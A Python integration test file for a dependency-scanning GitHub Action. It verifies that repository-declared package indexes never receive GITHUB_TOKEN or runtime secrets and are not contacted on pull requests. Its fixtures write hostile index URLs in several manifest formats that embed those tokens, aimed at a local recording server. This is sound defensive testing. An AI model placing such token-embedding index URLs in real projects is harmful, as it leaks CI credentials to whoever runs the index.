"""A repository's declared index never receives a secret, and on pull requests is not even asked.

The hostile checkout declares an index on a recording server (a real HTTP server on 127.0.0.1,
tests/fakeindex.py) with ``${GITHUB_TOKEN}`` and ``${ACTIONS_RUNTIME_TOKEN}`` in its URL, in every
format that can declare one. The scan runs the way users run it (the CLI, action mode) with those
secrets in its environment; the server's log is searched for them.
"""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from tests.actionrun import TOKEN, Runner, run_local
from tests.conftest import REPO, clean_env, write_tree
from tests.fakegithub import BOT, FakeGitHub
from tests.fakeindex import FakeIndex
from tests.security.conftest import PR_EVENT

pytestmark = pytest.mark.integration

RUNTIME = "runtime-token-must-stay-home"
SECRETS = {
    "GITHUB_TOKEN": TOKEN,
    "ACTIONS_RUNTIME_TOKEN": RUNTIME,
    "INPUT_GITHUB-TOKEN": TOKEN,
    "RUNNER_SECRET": "runner-secret-9",
}
SCAN = (sys.executable, str(REPO / "entrypoint.py"), "scan")
ALLOW_CORP = ("--index-env", "CORP_TOKEN", "--index-host", "127.0.0.1")


def hostile_trees(index: FakeIndex) -> dict[str, dict[str, str]]:
    """One project per format that declares an index, each pointing at the recording server."""
    leak = index.url.replace("/simple", "/leak/${GITHUB_TOKEN}/${ACTIONS_RUNTIME_TOKEN}/simple")
    userinfo = index.url.replace("http://", "http://x:${GITHUB_TOKEN}@")
    return {
        "requirements": {"requirements.txt": f"--extra-index-url {leak}\nstarlette>=0.27,<0.28\n"},
        "pipfile": {
            "Pipfile": (
                f'[[source]]\nname = "corp"\nurl = "{userinfo}"\nverify_ssl = true\n\n'
                '[packages]\nstarlette = ">=0.27,<0.28"\n'
            )
        },
        "poetry": {
            "pyproject.toml": (
                '[tool.poetry]\nname = "svc"\nversion = "1"\n\n[tool.poetry.dependencies]\n'
                f'starlette = ">=0.27,<0.28"\n\n[[tool.poetry.source]]\nname = "corp"\nurl = "{leak}"\n'
                'priority = "supplemental"\n'
            )
        },
        "uv": {
            "pyproject.toml": (
                '[project]\nname = "svc"\nversion = "1"\ndependencies = ["starlette>=0.27,<0.28"]\n\n'
                f'[[tool.uv.index]]\nname = "corp"\nurl = "{leak}"\n'
            )
        },
        "pdm": {
            "pyproject.toml": (
                '[project]\nname = "svc"\nversion = "1"\ndependencies = ["starlette>=0.27,<0.28"]\n\n'
                f'[[tool.pdm.source]]\nname = "corp"\nurl = "{userinfo}"\n'
            )
        },
    }


def seen(index: FakeIndex) -> str:
    return json.dumps([(r.path, r.authorization) for r in index.log])


def cli(tree: Path, cache: Path, *extra: str) -> tuple[int, dict[str, Any], str]:
    proc = subprocess.run(
        [*SCAN, str(tree), "--format", "json", "--audit", "off", *extra],
        capture_output=True,
        text=True,
        env={**clean_env(), "REPRO_CACHE_DIR": str(cache), **SECRETS},
        timeout=900,
        check=False,
    )
    return proc.returncode, json.loads(proc.stdout) if proc.stdout else {}, proc.stdout + proc.stderr


@pytest.mark.parametrize(
    "extra", [(), ("--index-env", "*", "--index-host", "127.0.0.1")], ids=["default", "all"]
)
def test_the_cli_never_fills_a_repository_url_with_githubs_variables(
    tmp_path: Path, repro_cache: Path, extra: tuple[str, ...]
) -> None:
    """Even a workflow that allows every variable and the server's host: GitHub's are never taken."""
    with FakeIndex({}) as index:
        for name, files in hostile_trees(index).items():
            write_tree(tmp_path / "repo" / name, files)
        code, report, output = cli(tmp_path / "repo", repro_cache, *extra)
        log = seen(index)
    assert code in (0, 1), output[-3000:]
    for secret in (TOKEN, RUNTIME, "runner-secret-9"):
        assert secret not in log
    skipped = {e["file"] for e in report["errors"] if "skipped" in e["message"]}
    assert skipped == {
        "requirements/requirements.txt",
        "pipfile/Pipfile",
        "poetry/pyproject.toml",
        "uv/pyproject.toml",
        "pdm/pyproject.toml",
    }, report["errors"]
    assert all(e["line"] for e in report["errors"] if e["file"] in skipped)


def test_the_workflow_cannot_list_githubs_variables_or_the_token(tmp_path: Path, repro_cache: Path) -> None:
    tree = write_tree(tmp_path / "repo", {"requirements.txt": "starlette==0.27.0\n"})
    code, _, output = cli(tree, repro_cache, "--index-env", "GITHUB_TOKEN")
    assert code == 2 and "GITHUB_TOKEN can never be used" in output
    proc = subprocess.run(
        [sys.executable, str(REPO / "entrypoint.py"), "scan", str(tree), "--index-env", "COPY"],
        capture_output=True,
        text=True,
        env={**clean_env(), "REPRO_CACHE_DIR": str(repro_cache), **SECRETS, "COPY": TOKEN},
        timeout=300,
        check=False,
    )
    assert proc.returncode == 2 and "COPY holds the workflow's token" in proc.stderr


def test_allowed_values_go_only_to_listed_hosts(tmp_path: Path, repro_cache: Path) -> None:
    """The workflow allows CORP_TOKEN; the repository points it at a host the workflow did not list."""
    with FakeIndex({}) as index:
        elsewhere = index.url.replace("127.0.0.1", "localhost").replace("http://", "http://u:${CORP_TOKEN}@")
        tree = write_tree(
            tmp_path / "repo", {"requirements.txt": f"--extra-index-url {elsewhere}\nstarlette>=0.27,<0.28\n"}
        )
        proc = subprocess.run(
            [*SCAN, str(tree), "--format", "json", "--audit", "off", *ALLOW_CORP],
            capture_output=True,
            text=True,
            env={**clean_env(), "REPRO_CACHE_DIR": str(repro_cache), "CORP_TOKEN": "corp-secret-77"},
            timeout=900,
            check=False,
        )
        log = seen(index)
    assert "corp-secret-77" not in log and index.log == []
    report = json.loads(proc.stdout)
    [error] = [e for e in report["errors"] if e["file"] == "requirements.txt"]
    assert error["line"] == 1 and "index-hosts" in error["message"]
    assert "corp-secret-77" not in proc.stdout + proc.stderr


def test_on_a_pull_request_an_unlisted_declared_index_is_not_contacted(
    fake: FakeGitHub, tmp_path: Path, repro_cache: Path
) -> None:
    """Action mode on `pull_request`, with the inputs allowing a variable: the server sees nothing."""
    with FakeIndex({}) as index:
        for name, files in hostile_trees(index).items():
            write_tree(tmp_path / "workspace" / name, files)
        run = run_local(
            Runner(tmp_path / "runner"),
            fake.url,
            tmp_path / "workspace",
            "pull_request",
            PR_EVENT,
            cache=repro_cache,
            inputs={"index-env": "CORP_*", "audit": "off", "comment": "never"},
        )
        assert index.log == [], seen(index)
    assert run.returncode in (0, 1), run.stdout[-3000:] + run.stderr[-3000:]
    assert "not contacted: the checkout is untrusted" in run.summary
    assert TOKEN not in run.summary and RUNTIME not in run.summary


def test_an_input_naming_githubs_variables_stops_the_action(
    fake: FakeGitHub, tmp_path: Path, repro_cache: Path
) -> None:
    workspace = write_tree(tmp_path / "workspace", {"requirements.txt": "starlette==0.27.0\n"})
    run = run_local(
        Runner(tmp_path / "runner"),
        fake.url,
        workspace,
        "pull_request",
        PR_EVENT,
        cache=repro_cache,
        inputs={"index-env": "ACTIONS_RUNTIME_TOKEN"},
    )
    assert run.returncode == 2
    assert "configuration failed::input index-env: ACTIONS_RUNTIME_TOKEN can never be used" in run.stdout


def test_an_organisation_scan_sends_no_repository_the_organisations_token(
    tmp_path: Path, repro_cache: Path
) -> None:
    """Every repository's files are its own writers': its declared index is not contacted."""
    org_token = "ghs_organisation_wide_token"
    with FakeIndex({}) as index, FakeGitHub(tokens={org_token: {"user": BOT, "readonly": True}}) as gh:
        leak = index.url.replace("/simple", "/leak/${GITHUB_TOKEN}/simple")
        gh.add_repo("acme/one", files={"requirements.txt": f"-i {leak}\nstarlette>=0.27,<0.28\n"})
        proc = subprocess.run(
            [
                sys.executable,
                str(REPO / "entrypoint.py"),
                "scan-org",
                "--org",
                "acme",
                "--format",
                "json",
                "--cache-dir",
                str(tmp_path / "cache"),
                "--audit",
                "off",
                "--index-env",
                "*",
            ],
            capture_output=True,
            text=True,
            env={**clean_env(), "GITHUB_TOKEN": org_token, "GITHUB_API_URL": gh.url},
            timeout=900,
            check=False,
        )
        assert index.log == [], seen(index)
    report = json.loads(proc.stdout)
    [repo] = report["repos"]
    [error] = [e for e in repo["errors"] if e["file"] == "requirements.txt"]
    assert error["line"] == 1 and "untrusted" in error["message"]
    assert org_token not in proc.stdout + proc.stderr
